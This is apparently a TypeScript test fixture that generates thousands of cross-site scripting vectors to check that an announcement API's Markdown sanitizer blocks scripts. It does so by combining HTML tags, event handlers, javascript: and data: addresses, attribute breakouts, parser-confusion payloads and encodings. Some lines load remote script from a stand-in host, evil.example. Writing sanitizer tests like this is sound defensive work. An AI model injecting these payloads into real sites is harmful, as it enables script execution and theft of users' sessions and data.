/**
 * Announcement bodies that try to run a script: each would call `alert(1)` if it got through, by itself or after a click.
 * Tags × events, addresses × the places where Markdown accepts one, ways out of an attribute, payloads × encodings ×
 * Markdown structures, and known parser confusions. None contains a NUL: the API refuses those.
 */

const tags = `
  a abbr applet audio body button custom-tag details dialog div embed form frameset iframe img image input
  isindex keygen link marquee math object p picture select source style svg svg/onload=alert(1)// table td
  textarea track video xss
`
  .trim()
  .split(/\s+/)

const events = [
  ...['onload=alert(1)', 'onerror=alert(1) src=x', 'onfocus="alert(1)" autofocus tabindex=1', 'onclick=alert(1)'],
  ...["onmouseover='alert(1)'", 'onpointerenter=alert`1`', 'onanimationstart=alert(1) style=animation-name:x'],
  ...['ontoggle=alert(1) open', 'onbegin=alert(1) attributeName=x dur=1s', 'onwheel=alert(1) contenteditable'],
  ...['style="background:url(javascript:alert(1))"', 'href=javascript:alert(1) src=javascript:alert(1)'],
]

const addresses = [
  ...[
    'javascript:alert(1)',
    'JAVASCRIPT:alert(1)',
    'JaVaScRiPt:alert(1)',
    'javascript://%0aalert(1)',
    'javascript:alert`1`',
  ],
  ...[
    'javascript&colon;alert(1)',
    'javascript&#58;alert(1)',
    'javascript&#x3a;alert(1)',
    'javascript&#0000058alert(1)',
  ],
  ...['&#106;avascript:alert(1)', '&#x6A;&#x61;vascript:alert(1)', '&#74;&#65;&#86;&#65;script:alert(1)'],
  ...[
    'java&Tab;script:alert(1)',
    'java&NewLine;script:alert(1)',
    'java&#9;script:alert(1)',
    'java&#xA;script:alert(1)',
  ],
  ...['&#1;javascript:alert(1)', '\u0001javascript:alert(1)', '\u001fjavascript:alert(1)', '\u00a0javascript:alert(1)'],
  ...[
    '\u200bjavascript:alert(1)',
    '\ufeffjavascript:alert(1)',
    '\u2028javascript:alert(1)',
    'java\u00adscript:alert(1)',
  ],
  ...['java%0ascript:alert(1)', '%6aavascript:alert(1)', 'javascript%3aalert(1)', '%0Ajavascript:alert(1)'],
  ...[
    'java\\script:alert(1)',
    'javascript\\:alert(1)',
    '\\javascript:alert(1)',
    'ｊavascript:alert(1)',
    'javaſcript:alert(1)',
  ],
  ...[
    'vbscript:msgbox(1)',
    'livescript:alert(1)',
    'mocha:alert(1)',
    'view-source:javascript:alert(1)',
    'feed:javascript:alert(1)',
  ],
  ...['data:text/html,<script>alert(1)</script>', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='],
  ...[
    'data:image/svg+xml,<svg onload=alert(1)>',
    'data:image/png;base64,iVBORw0KGgo=',
    'data:,alert(1)',
    'DATA:text/html,x',
  ],
  ...[
    'blob:http://a/b',
    'file:///etc/passwd',
    'about:blank',
    'filesystem:http://a/',
    'intent:#Intent;end',
    'ftp://a/b',
  ],
  ...[
    '//evil.example/x.js',
    '\\\\evil.example\\x',
    '/\\evil.example',
    'http:javascript:alert(1)',
    'http:/evil',
    'https:evil',
  ],
  ...[
    'http://a" onclick="alert(1)',
    "http://a' onclick='alert(1)",
    'http://a`onclick=alert(1)',
    'http://a><script>alert(1)</script>',
  ],
  ...[
    'http://a%22%20onclick=%22alert(1)',
    'http://a&quot; onclick=&quot;alert(1)',
    'http://a&#34;&#62;&#60;img src=x onerror=alert(1)&#62;',
  ],
  ...[
    'mailto:a@b?body=<script>alert(1)</script>',
    'mailto:"><img src=x onerror=alert(1)>',
    'x:y',
    ':javascript:alert(1)',
  ],
]

const places: ((address: string) => string)[] = [
  (address) => `[click](${address})`,
  (address) => `[click](<${address}>)`,
  (address) => `[click](  ${address} 'title')`,
  (address) => `![image](${address})`,
  (address) => `![image](<${address}> "title")`,
  (address) => `<${address}>`,
  (address) => `[click][r]\n\n[r]: ${address}`,
  (address) => `![r]\n\n[r]: <${address}> (title)`,
  (address) => `| a |\n|---|\n| [click](${address}) |`,
  (address) => `[![image](${address})](${address})`,
  (address) => `<a href="${address}">click</a>`,
  (address) => `<iframe src='${address}'></iframe><form action=${address}><button>x</button></form>`,
  (address) =>
    `<base href="${address}"><meta http-equiv=refresh content="0;url=${address}"><link rel=stylesheet href=${address}>`,
]

const breakouts = [
  ...[
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
  ],
  ...[
    '\\" onload=\\"alert(1)',
    '&quot; onerror=&quot;alert(1)',
    '&#34; onerror=alert(1) &#34;',
    '` onerror=alert(1) `',
  ],
  ...[
    '--><svg onload=alert(1)>',
    ']]><svg onload=alert(1)>',
    '</code></pre><svg onload=alert(1)>',
    '"/onload=alert(1)//',
  ],
  ...[
    '\u0022 onfocus=alert(1) autofocus \u0022',
    '"\n\tonload=alert(1)\n"',
    '＂＞＜svg onload=alert(1)＞',
    '"style="x:expression(alert(1))',
  ],
]

const slots: ((text: string) => string)[] = [
  (text) => `[x](http://a "${text}")`,
  (text) => `[x](http://a '${text}')`,
  (text) => `[x](http://a (${text}))`,
  (text) => `![x](http://a "${text}")`,
  (text) => `![${text}](http://a)`,
  (text) => `[${text}](http://a)`,
  (text) => `[x][${text}]\n\n[${text}]: http://a "${text}"`,
  (text) => `\`\`\`${text}\ncode\n\`\`\``,
  (text) => `~~~ html ${text}\n${text}\n~~~`,
  (text) => `# ${text}`,
  (text) => `\`${text}\``,
  (text) => `| ${text} | b |\n|:-${text}-:|---|\n| ${text} | ${text} |`,
]

const payloads = [
  ...[
    '<script>alert(1)</script>',
    '<script src=//evil.example/x.js></script>',
    '<script\n>alert(1)</script\n>',
    '<<script>alert(1)//<</script>',
  ],
  ...[
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<script/x>alert(1)</script/x>',
    '<img src=x onerror=alert(1)>',
    '<img src=x onerror=alert(1)//',
  ],
  ...[
    '<img/src=x/onerror=alert(1)>',
    '<img\u000csrc=x\u000bonerror=alert(1)>',
    '<img src="x` `<script>alert(1)</script>"` `>',
  ],
  ...[
    '<svg onload=alert(1)>',
    '<svg/onload=alert(1)>',
    '<svg><script>alert&#40;1&#41;</script>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x',
  ],
  ...[
    '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
    '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x">',
  ],
  ...[
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>">',
  ],
  ...['<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">'],
  ...[
    '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
    '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
  ],
  ...[
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<textarea><img title="</textarea><img src=x onerror=alert(1)>">',
  ],
  ...[
    '<title><img title="</title><img src=x onerror=alert(1)>">',
    '<xmp><p title="</xmp><svg onload=alert(1)>">',
    '<plaintext><script>alert(1)</script>',
  ],
  ...[
    '<template><script>alert(1)</script></template>',
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    '<object data="javascript:alert(1)">',
  ],
  ...[
    '<details open ontoggle=alert(1)>',
    '<video><source onerror=alert(1)></video>',
    '<input autofocus onfocus=alert(1)>',
    '<marquee onstart=alert(1)>',
  ],
  ...[
    '<!--><img src=x onerror=alert(1)>-->',
    '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
    '<![CDATA[<svg onload=alert(1)>]]>',
    '<?xml-stylesheet href="javascript:alert(1)"?>',
  ],
  ...[
    '<!DOCTYPE x [<!ENTITY y "<script>alert(1)</script>">]>&y;',
    '</p><script>alert(1)</script><p>',
    '</script><script>alert(1)</script>',
    '<a href=javascript:alert(1)>click',
  ],
  ...[
    '<style>@import "javascript:alert(1)";*{x:expression(alert(1))}</style>',
    '{{constructor.constructor("alert(1)")()}}',
  ],
]

const entities = (text: string, write: (point: number) => string) =>
  [...text].map((character) => write(character.codePointAt(0) as number)).join('')

const encodings: ((text: string) => string)[] = [
  (text) => text,
  (text) => text.toUpperCase().replaceAll('ALERT', 'alert'),
  (text) => text.replaceAll(/[a-z]/g, (letter, index: number) => (index % 2 ? letter : letter.toUpperCase())),
  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (text) => text.replaceAll('<', '&#60;').replaceAll('>', '&#x3E'),
  (text) => text.replaceAll('<', '&amp;lt;').replaceAll('"', '&amp;quot;'),
  (text) => entities(text, (point) => `&#${point};`),
  (text) => entities(text, (point) => `&#x${point.toString(16)};`),
  (text) => text.replaceAll('<', '\\<').replaceAll('>', '\\>'),
  (text) => text.replaceAll('<', '%3C').replaceAll('>', '%3E'),
  (text) => text.replaceAll('<', '＜').replaceAll('>', '＞'),
  (text) => text.replaceAll('<', '\u2039').replaceAll('=', '\u003d'),
  (text) => text.replaceAll(' ', '\n'),
  (text) => text.replaceAll('<', '<\u200b').replaceAll('on', 'o\u00adn'),
]

const structures: ((html: string) => string)[] = [
  (html) => `text\n\n${html}\n\ntext`,
  (html) => `**bold ${html} bold** *${html}*`,
  (html) => `> - 1. ${html}`,
  (html) => `| a | b |\n|---|---|\n| ${html.replaceAll('\n', ' ')} | x |`,
  (html) => `    ${html}\n\n\`\`\`\n${html}\n`,
  (html) => `[${html}](http://a "${html.replaceAll('"', "'")}") ![${html}](http://a)`,
]

/** Each of `these` with each of `those`. */
const cross = <T>(these: readonly T[], those: readonly ((one: T) => string)[]): string[] =>
  these.flatMap((one) => those.map((make) => make(one)))

/** The n-th of `these` within the n-th, (n+1)-th … of `those`: every pair of neighbours, not every pair. */
const around = (these: readonly string[], those: readonly ((one: string) => string)[], each: number): string[] =>
  these.flatMap((one, at) =>
    Array.from({ length: each }, (_, step) => (those[(at + step) % those.length] as (one: string) => string)(one)),
  )

export const xssVectors: readonly string[] = [
  ...new Set([
    ...cross(
      tags,
      events.map((event) => (tag: string) => `<${tag} ${event}>x</${tag}>`),
    ),
    ...cross(addresses, places),
    ...cross(breakouts, slots),
    ...around(cross(payloads, encodings), structures, 2),
  ]),
]
